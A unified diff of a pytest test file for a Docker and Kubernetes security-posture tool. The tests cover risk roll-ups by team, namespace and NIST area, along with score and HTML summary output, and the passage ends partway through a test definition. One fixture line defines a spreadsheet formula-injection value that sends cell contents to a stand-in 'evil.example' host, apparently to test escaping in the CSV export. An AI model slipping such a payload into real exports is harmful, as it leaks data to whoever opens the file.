@@ -6,24 +6,35 @@ import csv
 import io
 import json
 from collections.abc import Iterator
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import pytest
-from sqlalchemy import insert
 from sqlalchemy.engine import Engine
 
+from collectors.k8s.keys import cluster_ref, namespace_ref, object_ref
 from posture.cli.main import main
-from posture.db import write_session
-from posture.model import score_table
 from posture.pipeline import collect
-from posture.records import AssetKind, AssetRecord, AssetRef, ObservationRecord, Record, ScopeKind, ScopeRef
+from posture.postrun import ScoringHook
+from posture.records import (
+    AssetKind,
+    AssetRecord,
+    AssetRef,
+    ObservationRecord,
+    Record,
+    RelationRecord,
+    ScopeKind,
+    ScopeRef,
+)
 from posture.reports.csv_export import cell
 from posture.rules.base import Hit, Reference, Rule, RuleRegistry, Snapshot
+from posture.store.scoring import ScoringSettings
 from posture.taxonomy import CIS_DOCKER, Phase, Severity
 
 T0 = datetime(2025, 5, 1, 9, 0, tzinfo=UTC)
+T1 = datetime(2025, 5, 1, 9, 5, tzinfo=UTC)
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ENGINE_REF = AssetRef(AssetKind.DOCKER_ENGINE, "engine:cli")
 IMAGE = AssetRef(AssetKind.IMAGE, "sha256:" + "c" * 64)
@@ -60,46 +71,126 @@ class _Source:
         yield AssetRecord(ENGINE_REF.kind, ENGINE_REF.key, "host-1", Phase.RUN, {})
         yield AssetRecord(IMAGE.kind, IMAGE.key, "shop/api:1", Phase.BUILD, {})
         for cid, name in (("c1", "web"), ("c2", FORMULA_NAME)):
+            # A "namespace" attribute on a Docker container is only a label: no Kubernetes namespace.
             yield AssetRecord(
                 AssetKind.CONTAINER,
                 f"engine:cli/{cid}",
                 name,
                 Phase.RUN,
-                {"privileged": True, "namespace": "shop", "labels": {"team": "web"}},
+                {"privileged": True, "namespace": "shop", "labels": {"team": "web", "squad": "edge"}},
                 ENGINE_REF,
             )
+        yield RelationRecord(AssetRef(AssetKind.CONTAINER, "engine:cli/c1"), "runs", IMAGE)
         yield ObservationRecord(
             "VULN", IMAGE, "CVE-2024-9|zlib|1", "CVE-2024-9 in zlib", Severity.HIGH, {"fix_available": True}
         )
 
 
+@dataclass
+class _Cluster:
+    """One namespace and a workload in it running the vulnerable image; by default the namespace's
+    label names the team."""
+
+    namespace_attrs: dict[str, Any] = field(default_factory=lambda: {"labels": {"squad": "payments"}})
+    workload_attrs: dict[str, Any] = field(default_factory=dict)
+
+    @property
+    def scope(self) -> ScopeRef:
+        return ScopeRef(ScopeKind.KUBERNETES, "prod")
+
+    def collect(self) -> Iterator[Record]:
+        namespace, workload = namespace_ref("prod", "shop"), object_ref("prod", "Deployment", "api", "shop")
+        yield AssetRecord(AssetKind.CLUSTER, "prod", "prod", Phase.RUN, {})
+        attrs = {"name": "shop", **self.namespace_attrs}
+        yield AssetRecord(namespace.kind, namespace.key, "shop", Phase.RUN, attrs, cluster_ref("prod"))
+        attrs = {"namespace": "shop", **self.workload_attrs}
+        yield AssetRecord(workload.kind, workload.key, "shop/Deployment/api", Phase.RUN, attrs, namespace)
+        yield RelationRecord(workload, "runs", IMAGE)
+
+
+def _collect(engine: Engine, team_key: str, cluster: _Cluster | None = None) -> None:
+    """Both sources, scored after each run as ``posture collect`` does, with ``team_key`` as the team label."""
+    scoring = ScoringHook(ScoringSettings(team_key=team_key))
+    collect(engine, _Source(), RuleRegistry(RULES), now=T0, after_reconcile=[scoring])
+    collect(engine, cluster or _Cluster(), RuleRegistry(RULES), now=T1, after_reconcile=[scoring])
+
+
 @pytest.fixture
 def db(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> str:
-    collect(engine, _Source(), RuleRegistry(RULES), now=T0)
-    with write_session(engine) as session:
-        session.execute(
-            insert(score_table), [{"run_id": None, "taken_at": T0, "score": 71.0, "grade": "C", "counts": {}}]
-        )
+    _collect(engine, "team")
     monkeypatch.setattr("posture.cli.context.default_registry", lambda: RuleRegistry(RULES))
     return str(engine.url)
 
 
 def test_summary_json_and_text(db: str, capsys: pytest.CaptureFixture[str]) -> None:
+    main(["score", "--db", db, "--format", "json"])
+    scored = json.loads(capsys.readouterr().out)
     main(["summary", "--db", db, "--format", "json"])
     data = json.loads(capsys.readouterr().out)
-    assert data["score"]["grade"] == "C" and data["open"]["total"] == 3
-    assert data["by_namespace"][0]["name"] == "shop" and data["by_team"][0]["name"] == "web"
-    assert data["health"][0]["source"] == "docker:engine:cli" and data["health"][0]["status"] == "complete"
+    assert (data["score"]["score"], data["score"]["grade"]) == (scored["score"], scored["grade"])
+    assert data["open"]["total"] == 3
+    assert {h["source"]: h["status"] for h in data["health"]} == {
+        "docker:engine:cli": "complete",
+        "kubernetes:prod": "complete",
+    }
     assert data["changes"]["counts"]["new"] == 3
     main(["summary", "--db", db])
-    assert "Score: 71/100, grade C" in capsys.readouterr().out
+    assert f"Score: {scored['score']:.0f}/100, grade {scored['grade']}" in capsys.readouterr().out
+
+
+def _groups_by_score_command(db: str, by: str, capsys: pytest.CaptureFixture[str]) -> dict[str, dict[str, object]]:
+    main(["score", "--db", db, "--by", by, "--format", "json"])
+    return {g.pop("group"): g for g in json.loads(capsys.readouterr().out)}
+
+
+def test_summary_risk_by_group_is_the_score_snapshots(db: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """Teams, namespaces and NIST areas as scoring rolled them up: the image's CVE counts for the team
+    running it, a namespace is named with its cluster, and ``posture score --by`` agrees figure for figure."""
+    main(["summary", "--db", db, "--format", "json"])
+    data = json.loads(capsys.readouterr().out)
+    for key, by in (("by_team", "team"), ("by_namespace", "namespace"), ("by_area", "category")):
+        expected = _groups_by_score_command(db, by, capsys)
+        got = {g["name"]: g for g in data[key]}
+        assert set(got) == set(expected), key
+        for name, group in got.items():
+            want = expected[name]
+            assert (group["score"], group["grade"], group["open"], group["max_risk"]) == (
+                want["score"],
+                want["grade"],
+                want["open"],
+                want["max_risk"],
+            ), (key, name)
+    assert [g["name"] for g in data["by_namespace"]] == ["prod/shop"], "Kubernetes only, cluster-prefixed"
+    team = {g["name"]: g for g in data["by_team"]}["web"]
+    assert team["open"] == 3 and team["critical"] == 2 and team["high"] == 1, "the image CVE lands on its runner"
+    assert {g["name"] for g in data["by_area"]} == {"container", "image"}
+    assert "(unassigned)" not in json.dumps(data)
+
+
+def test_summary_uses_the_configured_team_label(engine: Engine, capsys: pytest.CaptureFixture[str]) -> None:
+    _collect(engine, "squad")
+    main(["summary", "--db", str(engine.url), "--format", "json"])
+    teams = {g["name"]: g["open"] for g in json.loads(capsys.readouterr().out)["by_team"]}
+    assert teams == {"edge": 3, "payments": 1}, "containers by their label; the workload by its namespace's"
+
+
+def test_summary_counts_an_annotated_workloads_image_for_its_team(
+    engine: Engine, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """No label names the team anywhere; the workload's annotation does (the image's CVE follows it)."""
+    annotated = _Cluster({}, {"labels": {"app": "api"}, "annotations": {"example.com/owner": "payments"}})
+    _collect(engine, "example.com/owner", annotated)
+    main(["summary", "--db", str(engine.url), "--format", "json"])
+    teams = json.loads(capsys.readouterr().out)["by_team"]
+    assert [(t["name"], t["open"], t["high"]) for t in teams] == [("payments", 1, 1)]
 
 
 def test_summary_html_to_a_file(db: str, tmp_path: Path) -> None:
     out = tmp_path / "report.html"
     main(["summary", "--db", db, "--format", "html", "--output", str(out)])
     html = out.read_text()
-    assert html.startswith("<!DOCTYPE html>") and "grade" in html and "shop" in html
+    assert html.startswith("<!DOCTYPE html>") and "grade" in html and "prod/shop" in html
+    assert "<h2>Risk by NIST SP 800-190 area</h2>" in html
 
 
 def test_summary_to_an_unwritable_place_is_one_line(
